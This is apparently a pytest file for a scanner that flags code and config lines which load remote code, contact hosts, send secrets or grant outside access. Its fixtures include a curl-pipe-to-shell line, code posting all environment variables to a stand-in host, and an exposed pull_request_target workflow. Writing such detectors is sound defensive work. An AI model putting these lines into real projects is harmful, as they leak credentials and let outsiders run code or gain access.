"""Hosts that written text makes a project or a reader ask."""

from __future__ import annotations

import pytest

from lockgate.core.ruling.effects.written import read_shown_text, read_written_file

LOADS, CONNECTS = "embeds-remote-code", "embeds-address"


@pytest.mark.parametrize(
    ("path", "text", "expected"),
    [
        ("web/index.html", '<script src="https://beacon.example/b.js"></script>', (LOADS, "beacon.example")),
        ("a.css", "@import url('https://beacon.example/b.css');", (LOADS, "beacon.example")),
        ("a.mjs", "import x from 'https://esm.beacon.example/x.js'", (LOADS, "esm.beacon.example")),
        ("Dockerfile", "RUN curl -s https://get.example/x | sh", (LOADS, "get.example")),
        ("pip.conf", "extra-index-url = https://pypi.example/simple", ("uses-package-source", "pypi.example")),
        ("bin/env.sh", "HOST=app-blue.relay.example", (CONNECTS, "app-blue.relay.example")),
        (".env.local", "API_URL=https://api.example/v1", (CONNECTS, "api.example")),
        ("client.py", 'requests.post("https://drop.example/c", data=x)', (CONNECTS, "drop.example")),
    ],
)
def test_a_line_that_loads_or_connects_names_its_host(path: str, text: str, expected: tuple[str, str]) -> None:
    assert [(found.kind, found.target) for found in read_written_file(path, text, "", "content")] == [expected]


@pytest.mark.parametrize(
    ("path", "text", "replaced"),
    [
        ("README.md", "[docs](https://docs.example) ![badge](https://badge.example/x.svg)", ""),
        ("notes.txt", "curl https://get.example | sh", ""),
        ("a.py", "# see https://docs.example/api", ""),
        ("a.py", 'URL = "http://localhost:8000/x"', ""),
        ("web/index.html", '<script src="https://cdn.example/2.js">', '<script src="https://cdn.example/1.js">'),
        ("rules/a.yar", '$u = "cdn-upd.example/p.bin"', ""),
        ("data.json", '{"url": "https://a.example"}', ""),
        ("package-lock.json", '"resolved": "https://registry.example/x.tgz"', ""),
    ],
)
def test_links_known_hosts_and_data_do_nothing(path: str, text: str, replaced: str) -> None:
    assert list(read_written_file(path, text, replaced, "content")) == []


def test_a_picture_in_shown_text_asks_its_host() -> None:
    for text in (
        "<img src='https://px.example/o.png?a=1'>",
        "![x](https://px.example/o.png)",
        "<img src=//px.example/o>",
    ):
        assert [found.target for found in read_shown_text(text, "body")] == ["px.example"], text
    assert list(read_shown_text("see https://px.example and [this](https://px.example)", "body")) == []


@pytest.mark.parametrize(
    ("path", "text", "host"),
    [
        ("requirements.in", "x @ git+https://git.example/x.git", "git.example"),
        ("package.json", '  "left-pad": "https://cdn.example/left-pad.tgz",', "cdn.example"),
    ],
)
def test_a_package_from_an_address_is_a_dependency_and_its_host_a_source_of_packages(
    path: str, text: str, host: str
) -> None:
    found = [(each.kind, each.target) for each in read_written_file(path, text, "", "content")]
    assert [kind for kind, _ in found] == ["uses-package-source", "adds-dependency"]
    assert found[0][1] == host


TAKES_ENVIRONMENT = 'urlopen(Request("https://c.example/" + "x",\n data=json.dumps(dict(os.environ)).encode()))'
TAKES_ENVIRONMENT_TOO = "fetch('https://c.example', {method: 'POST', body: JSON.stringify(process.env)})"


@pytest.mark.parametrize(
    ("path", "text", "kind", "target"),
    [
        ("tests/test_a.py", TAKES_ENVIRONMENT, "sends-secret", "environment"),
        ("a.js", TAKES_ENVIRONMENT_TOO, "sends-secret", "environment"),
        ("main.tf", 'extra_readers = ["arn:aws:iam::719204418830:root"]', "shares", "arn:aws:iam::719204418830:root"),
        ("iam.yaml", "members: [user:eve@far.example]", "shares", "user:eve@far.example"),
        (".github/workflows/ci.yml", "permissions: write-all", "grants-access", "permissions: write-all"),
        (
            ".github/workflows/ci.yml",
            "on: [pull_request_target]\nenv: {T: '${{ secrets.T }}'}",
            "grants-access",
            "pull_request_target",
        ),
        ("a.tf", 'trusted_role_arn = "arn:aws:iam::719204418830:role/x"', "shares", "arn:aws:iam::719204418830:role/x"),
        ("a.py", "e = dict(os.environ)\nrequests.post('https://c.example', json=e)", "sends-secret", "environment"),
        # A variable beside a host hides no host.
        ("a.py", "requests.post(f'https://c.example{path}')", "embeds-address", "c.example"),
        ("a.py", "requests.post(f'https://{user}.c.example/x')", "embeds-address", "c.example"),
        ("a.sh", "curl https://${A:-c.example}/x", "embeds-remote-code", "c.example"),
        ("a.sh", "curl https://$HOST.c.example:${PORT}/x", "embeds-remote-code", "c.example"),
    ],
)
def test_what_lets_others_in_or_sends_everything_away_is_told(path: str, text: str, kind: str, target: str) -> None:
    assert (kind, target) in [(found.kind, found.target) for found in read_written_file(path, text, "", "content")]


@pytest.mark.parametrize(
    ("path", "text", "replaced"),
    [
        # One key in a request is how a service is asked.
        ("a.py", "requests.post('https://api.example', headers={'Authorization': os.environ['API_KEY']})", ""),
        ("main.tf", 'readers = ["arn:aws:iam::719204418830:root"]', 'readers = ["arn:aws:iam::719204418830:root"]'),
        ("main.tf", 'role_arn = "arn:aws:iam::719204418830:role/a"\npolicy = "arn:aws:iam::719204418830:policy/b"', ""),
        (".github/workflows/ci.yml", "on: [pull_request]\npermissions: read-all", ""),
        ("compose.yaml", "DSN: postgres://user:pw@db.ours.example/x", ""),
        (
            "a.py",
            "e = os.environ.copy()\nf(env=e)\nf(c, env=dict(os.environ))\nrequests.get('https://api.example')",
            "",
        ),
        ("a.sh", "curl https://${HOST}/x https://$HOST/y", ""),
        ("README.md", "give arn:aws:iam::719204418830:root access", ""),
        ("justfile", "deploy:\n    curl -fsS https://{{host}}/version.txt", ""),
    ],
)
def test_ordinary_code_sends_no_secret_and_lets_no_one_in(path: str, text: str, replaced: str) -> None:
    kinds = {found.kind for found in read_written_file(path, text, replaced, "content")}
    assert kinds.isdisjoint({"sends-secret", "shares", "embeds-remote-code"})


def test_an_image_is_a_dependency_and_names_its_host() -> None:
    found = read_written_file("Dockerfile", "FROM registry.example/team/base:1", "", "content")
    expected = [("adds-dependency", "registry.example/team/base"), (LOADS, "registry.example")]
    assert [(each.kind, each.target) for each in found] == expected
